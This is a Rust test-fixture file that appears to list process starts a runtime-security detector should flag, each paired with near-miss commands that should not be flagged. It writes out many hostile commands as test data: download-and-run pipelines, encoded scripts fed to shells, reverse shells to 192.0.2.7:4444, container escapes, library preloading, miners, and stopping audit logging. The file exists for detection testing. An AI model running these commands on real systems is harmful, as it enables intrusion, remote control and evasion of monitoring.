//! The planted starts: what each rule has to find, and near misses, which are what false positives look like.

use super::starts::{
    Place::{Container, Host, Job},
    PlantedStart, hit, miss,
};

const GO: &str = "/opt/go/bin/go";
const SH: &str = "/usr/bin/dash";
const BASH: &str = "/usr/bin/bash";
const PYTHON: &str = "/usr/bin/python3.11";
/// A container's first process.
const INIT: &str = "/usr/bin/containerd-shim-runc-v2";

/// The planted starts, rule by rule.
pub(crate) const STARTS: &[PlantedStart] = &[
    hit("go_run_in_job", Job, GO, &["go", "run", "./cmd/server"]).go("go-run", "local"),
    miss("go_run_in_job", Job, GO, &["go", "build", "-o", "run", "./run"]).go("go-build", "local"),
    miss("go_run_in_job", Host, GO, &["go", "run", "."]).go("go-run", "local"),
    hit("go_run_in_production", Container, GO, &["go", "run", "."]).go("go-run", "local"),
    hit("go_run_in_production", Container, "/tmp/go-build7/b001/exe/app", &["/tmp/go-build7/b001/exe/app"])
        .go("go-run-child", ""),
    miss("go_run_in_production", Container, "/srv/app", &["/srv/app", "run", "main.go"]).go("go-service", ""),
    hit("go_run_fetches_package", Host, GO, &["go", "run", "example.com/tool@latest"])
        .go("go-run", "unpinned"),
    hit("go_run_fetches_package", Host, GO, &["go", "run", "example.com/tool@v1.2.3"]).go("go-run", "pinned"),
    miss("go_run_fetches_package", Host, GO, &["go", "run", "example.com/tool"]).go("go-run", "resolved"),
    hit("download_into_shell", Job, SH, &["sh", "-c", "curl -fsSL https://get.example/install | sh"]),
    hit("download_into_shell", Host, SH, &["sh", "-c", "wget -qO- https://get.example | sudo bash -s -- -y"]),
    hit("download_into_shell", Job, BASH, &["bash", "-c", "bash <(curl -s https://get.example/install)"]),
    hit("download_into_shell", Job, BASH, &["bash", "-c", "eval \"$(curl -s https://get.example/env)\""]),
    miss(
        "download_into_shell",
        Job,
        SH,
        &["sh", "-c", "curl -fsSL https://get.example/f.tar | sha256sum -c f.sum"],
    ),
    miss(
        "download_into_shell",
        Host,
        SH,
        &["sh", "-c", "curl -s https://get.example/key | sudo tee /etc/apt/k.asc"],
    ),
    miss(
        "download_into_shell",
        Host,
        "/usr/bin/curl",
        &["curl", "-o", "install.sh", "https://get.example/sh"],
    ),
    hit(
        "interpreter_runs_download",
        Host,
        PYTHON,
        &["python3", "-c", "import urllib.request as u; exec(u.urlopen('https://get.example/x').read())"],
    ),
    hit(
        "interpreter_runs_download",
        Job,
        "/usr/bin/node",
        &["node", "-e", "fetch('https://get.example/x').then(r => r.text()).then(t => eval(t))"],
    ),
    miss(
        "interpreter_runs_download",
        Job,
        PYTHON,
        &["python3", "-c", "import urllib.request as u; print(u.urlopen('http://localhost/health').status)"],
    ),
    hit("encoded_script_into_shell", Host, SH, &["sh", "-c", "echo aWQK | base64 -d | sh"]),
    hit("encoded_script_into_shell", Host, BASH, &["bash", "-c", "base64 --decode x|bash -s"]),
    miss("encoded_script_into_shell", Job, SH, &["sh", "-c", "echo \"$KEY\" | base64 -d | tar -x"]),
    hit(
        "reverse_shell_of_shell",
        Container,
        BASH,
        &["bash", "-c", "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"],
    ),
    hit(
        "reverse_shell_of_shell",
        Host,
        BASH,
        &[
            "bash",
            "-c",
            "exec 5<>/dev/tcp/192.0.2.7/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
        ],
    ),
    miss("reverse_shell_of_shell", Job, BASH, &["bash", "-c", "timeout 1 bash -c '</dev/tcp/db/5432'"]),
    hit(
        "reverse_shell_of_netcat",
        Container,
        "/usr/bin/nc.traditional",
        &["nc.traditional", "-e", "/bin/sh", "192.0.2.7", "4444"],
    ),
    hit("reverse_shell_of_netcat", Host, "/bin/busybox", &["nc", "192.0.2.7", "4444", "-e", "sh"]),
    hit("reverse_shell_of_netcat", Host, "/usr/bin/socat", &["socat", "TCP:192.0.2.7:4444", "EXEC:bash,pty"]),
    miss("reverse_shell_of_netcat", Job, "/usr/bin/nc.openbsd", &["nc", "-C", "-z", "db", "5432"]),
    miss("reverse_shell_of_netcat", Host, "/usr/bin/socat", &["socat", "TCP-LISTEN:80,fork", "TCP:db:80"]),
    hit(
        "reverse_shell_of_interpreter",
        Host,
        PYTHON,
        &[
            "python3",
            "-c",
            "import socket,os,pty;s=socket.create_connection(('192.0.2.7',4444));os.dup2(s.fileno(),0);pty.spawn('sh')",
        ],
    ),
    hit(
        "reverse_shell_of_interpreter",
        Container,
        "/usr/bin/php8.2",
        &["php", "-r", "$s=fsockopen('192.0.2.7',4444);passthru('/bin/sh -i <&3 >&3 2>&3');"],
    ),
    miss(
        "reverse_shell_of_interpreter",
        Job,
        PYTHON,
        &["python3", "-c", "import socket; socket.create_connection(('db', 5432))"],
    ),
    hit("shell_of_server", Container, SH, &["sh", "-c", "id"]).of("/usr/sbin/nginx"),
    hit("shell_of_server", Container, SH, &["sh", "-c", "id"]).of("/usr/sbin/php-fpm8.2"),
    hit("shell_of_server", Host, BASH, &["bash", "-c", "id"]).of("/opt/java/bin/java"),
    miss("shell_of_server", Job, BASH, &["bash", "-c", "make"]).of("/opt/java/bin/java"),
    miss("shell_of_server", Host, BASH, &["-bash"]).of("/usr/sbin/sshd"),
    miss("shell_of_server", Host, "/usr/sbin/nginx", &["nginx", "-t"]).of("/usr/sbin/nginx"),
    hit(
        "package_manager_in_production",
        Container,
        "/usr/bin/apt-get",
        &["apt-get", "install", "-y", "nmap"],
    )
    .of(SH),
    hit("package_manager_in_production", Container, PYTHON, &["python3", "-m", "pip", "install", "requests"])
        .of(SH),
    miss("package_manager_in_production", Job, "/usr/bin/apt-get", &["apt-get", "install", "-y", "nmap"]),
    miss("package_manager_in_production", Container, "/usr/bin/apt-get", &["apt-get", "update"]).of(SH),
    hit(
        "compiler_in_production",
        Container,
        "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
        &["cc1", "-quiet", "x.c"],
    ),
    hit(
        "compiler_in_production",
        Container,
        "/usr/local/go/pkg/tool/linux_amd64/compile",
        &["/usr/local/go/pkg/tool/linux_amd64/compile", "-p", "main"],
    )
    .go("compiler-helper", ""),
    miss("compiler_in_production", Job, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", &["cc1", "-quiet", "x.c"]),
    hit("preloaded_library", Host, "/usr/bin/env", &["env", "LD_PRELOAD=/home/x/hook.so", "sshd", "-D"]),
    hit("preloaded_library", Host, SH, &["sh", "-c", "echo /lib/hook.so >> /etc/ld.so.preload"]),
    miss(
        "preloaded_library",
        Host,
        "/usr/bin/env",
        &["env", "LD_PRELOAD=/usr/lib/libjemalloc.so.2", "server"],
    ),
    miss("preloaded_library", Host, "/usr/bin/env", &["env", "LD_LIBRARY_PATH=/opt/lib", "server"]),
    hit("program_in_memory", Host, "memfd:hidden", &["[kworker/0:1]"]),
    miss("program_in_memory", Host, "memfd:runc_cloned:/proc/self/exe", &["runc", "init"]).of(INIT),
    miss("program_in_memory", Host, "/usr/bin/memfd", &["memfd:hidden"]),
    hit("program_in_temporary_folder", Host, "/tmp/x", &["/tmp/x"]),
    hit("program_in_temporary_folder", Container, "/dev/shm/.a/b", &["b"]),
    miss("program_in_temporary_folder", Job, "/tmp/pip-build-env/x", &["/tmp/pip-build-env/x"]),
    miss("program_in_temporary_folder", Host, "/tmp/go-build1/b001/x.test", &["/tmp/go-build1/b001/x.test"])
        .go("go-test-binary", ""),
    miss("program_in_temporary_folder", Host, "/srv/tmp/x", &["/srv/tmp/x"]),
    hit("crypto_miner", Host, "/opt/.cache/xmrig", &["xmrig"]),
    hit("crypto_miner", Container, "/usr/bin/kworker", &["kworker", "-o", "stratum+tcp://pool.example:3333"]),
    miss("crypto_miner", Host, "/usr/bin/chronyd", &["chronyd", "stratum", "10", "/etc/minerd.conf"]),
    hit("recording_is_stopped", Host, "/usr/sbin/auditctl", &["auditctl", "-e", "0"]),
    hit("recording_is_stopped", Host, "/usr/bin/systemctl", &["systemctl", "stop", "tracego.service"]),
    hit("recording_is_stopped", Host, SH, &["/bin/sh", "/usr/sbin/service", "auditd", "stop"]),
    hit("recording_is_stopped", Host, "/usr/bin/pkill", &["pkill", "-9", "tracego"]),
    hit("recording_is_stopped", Host, "/usr/bin/tracego", &["tracego", "detach"]),
    miss("recording_is_stopped", Host, "/usr/bin/systemctl", &["systemctl", "restart", "auditd"]),
    miss("recording_is_stopped", Host, "/usr/bin/systemctl", &["systemctl", "stop", "nginx"]),
    miss("recording_is_stopped", Host, "/usr/sbin/auditctl", &["auditctl", "-s"]),
    hit("container_escape", Container, "/usr/bin/nsenter", &["nsenter", "-t", "1", "-m", "--", "bash"]),
    hit("container_escape", Container, "/usr/bin/nsenter", &["nsenter", "-m", "-p", "--target", "1"]),
    hit("container_escape", Container, "/usr/sbin/chroot", &["chroot", "/host", "sh"]),
    hit("container_escape", Container, SH, &["sh", "-c", "echo '|/x %p' > /proc/sys/kernel/core_pattern"]),
    miss("container_escape", Host, "/usr/bin/nsenter", &["nsenter", "-t", "1", "-m", "--", "bash"]),
    miss("container_escape", Container, "/usr/bin/nsenter", &["nsenter", "-t", "17", "-n", "ss"]),
    hit(
        "privileged_container",
        Host,
        "/usr/bin/docker",
        &["docker", "run", "--rm", "--privileged", "alpine"],
    ),
    hit("privileged_container", Job, "/usr/bin/podman", &["podman", "run", "-v", "/:/host", "alpine"]),
    hit(
        "privileged_container",
        Job,
        "/usr/bin/docker",
        &["docker", "run", "-v", "/var/run/docker.sock:/var/run/docker.sock", "ci"],
    ),
    miss("privileged_container", Job, "/usr/bin/docker", &["docker", "run", "-v", "/srv/app:/app", "alpine"]),
    miss(
        "privileged_container",
        Host,
        "/usr/bin/docker",
        &["docker", "ps", "--filter", "label=--privileged "],
    ),
    hit("job_reads_memory", Job, "/usr/bin/dd", &["dd", "if=/proc/1234/mem", "of=x"]),
    hit("job_reads_memory", Job, "/usr/bin/cat", &["cat", "/proc/1/environ"]),
    hit("job_reads_memory", Job, "/usr/bin/gdb", &["gdb", "-batch", "-p", "1234"]),
    miss("job_reads_memory", Job, "/usr/bin/cat", &["cat", "/proc/meminfo"]),
    miss("job_reads_memory", Host, "/usr/bin/cat", &["cat", "/proc/1/environ"]),
];
